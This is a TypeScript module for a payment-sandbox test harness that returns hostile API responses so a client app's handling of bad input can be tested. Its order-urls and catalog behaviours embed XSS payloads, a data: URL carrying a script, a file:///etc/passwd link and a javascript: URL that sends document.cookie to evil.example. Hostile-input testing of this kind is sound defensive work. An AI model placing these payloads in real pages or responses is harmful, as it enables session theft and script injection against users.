// Hostile mode: malicious-but-plausible replies for hostile-input tests. A sale against any behaviour must end in
// an error in the app, never in success. The sandbox's own records (admin endpoint, transactions()) stay true.
//
//   order-urls        POST /transaction/process: every URL field of the order is a non-web URL:
//                     checkoutUrl `javascript:alert(document.domain)`, short_url a `data:text/html` page with a
//                     script, paymentUrl `file:///etc/passwd`, url `javascript:` exfiltrating document.cookie.
//   record-amount     GET /transaction/txnId/:id and GET /transaction: the record says SUCCESS with an amount
//                     100 times larger plus one minor unit, in another currency (INR→USD, others→INR).
//   record-reference  the same endpoints: the record says SUCCESS under another sale's referenceNumber and txnId.
//   redirect-lie      every checkout button (and pay()) records FAILED but redirects with payment_status=success.
//   huge-strings      process and the record endpoints: a 1 MB `message`, a 1 MB paymentMethodName, a 1 MB
//                     order `description` and a 64 KB providerPaymentId.
//   wrong-types       the record endpoints: txnId a number, amount an object, status a number, createdAt a
//                     number, providerOrderId an array; payment methods: id a number, isActive "yes".
//   catalog           GET /currencies: the real currencies plus entries with markup in code and name
//                     (`<img src=x onerror=alert(1)>`), a 100 KB name, and isActive "true" as a string.
// With several behaviours on, later ones in this list overwrite the same fields of earlier ones.
import { z } from 'zod';

export const HostileBehaviour = z.enum([
  'order-urls',
  'record-amount',
  'record-reference',
  'redirect-lie',
  'huge-strings',
  'wrong-types',
  'catalog',
]);
export type HostileBehaviour = z.infer<typeof HostileBehaviour>;

export const ALL_HOSTILE_BEHAVIOURS: readonly HostileBehaviour[] = HostileBehaviour.options;

export type HostileSet = ReadonlySet<HostileBehaviour>;

export function hostileSet(option: boolean | readonly HostileBehaviour[] | undefined): HostileSet {
  if (option === true) return new Set(ALL_HOSTILE_BEHAVIOURS);
  if (!option) return new Set();
  return new Set(option);
}

const MARKUP = '<img src=x onerror=alert(1)>';
const huge = (size: number): string => 'A'.repeat(size);

export function hostileMessage(set: HostileSet): string | undefined {
  return set.has('huge-strings') ? `success ${huge(1_000_000)}` : undefined;
}

export function hostileOrder(order: Record<string, unknown>, set: HostileSet): Record<string, unknown> {
  const out = { ...order };
  if (set.has('order-urls')) {
    out.checkoutUrl = 'javascript:alert(document.domain)';
    out.short_url = 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';
    out.paymentUrl = 'file:///etc/passwd';
    out.url = 'javascript:fetch("https://evil.example/?c="+document.cookie)';
  }
  if (set.has('huge-strings')) out.description = huge(1_000_000);
  return out;
}

export function hostileRecord(record: Record<string, unknown>, set: HostileSet): Record<string, unknown> {
  const out = { ...record };
  if (set.has('record-amount')) {
    const amount = typeof out.amount === 'number' ? out.amount : 0;
    out.amount = Number((amount * 100 + 1).toFixed(2));
    out.currency = out.currency === 'INR' ? 'USD' : 'INR';
    out.status = 'SUCCESS';
  }
  if (set.has('record-reference')) {
    out.referenceNumber = `HOSTILE-${String(out.referenceNumber)}-X`;
    out.txnId = 'tx_H0st1leXX';
    out.status = 'SUCCESS';
    out.providerPaymentId = 'pay_H0st1lePaymentX';
  }
  if (set.has('huge-strings')) {
    out.paymentMethodName = huge(1_000_000);
    out.providerPaymentId = huge(64_000);
  }
  if (set.has('wrong-types')) {
    out.txnId = 42;
    out.amount = { value: out.amount };
    out.status = 1;
    out.createdAt = 1_700_000_000;
    out.providerOrderId = ['order_1', 'order_2'];
  }
  return out;
}

export function hostileMethods(methods: Record<string, unknown>[], set: HostileSet): unknown[] {
  if (!set.has('wrong-types')) return methods;
  return methods.map((method, index) => ({
    ...method,
    id: index + 1,
    paymentMethodId: index + 1,
    isActive: 'yes',
  }));
}

export function hostileCurrencies(currencies: Record<string, unknown>[], set: HostileSet): unknown[] {
  if (!set.has('catalog')) return currencies;
  return [
    ...currencies,
    {
      id: `c_${MARKUP}`,
      currencyId: `c_${MARKUP}`,
      code: MARKUP,
      name: MARKUP,
      symbol: MARKUP,
      isActive: true,
    },
    { id: 'c_HugeName01', currencyId: 'c_HugeName01', code: 'XXX', name: huge(100_000), isActive: true },
    { id: 'c_StrActive1', currencyId: 'c_StrActive1', code: 'CHF', name: 'CHF', isActive: 'true' },
  ];
}
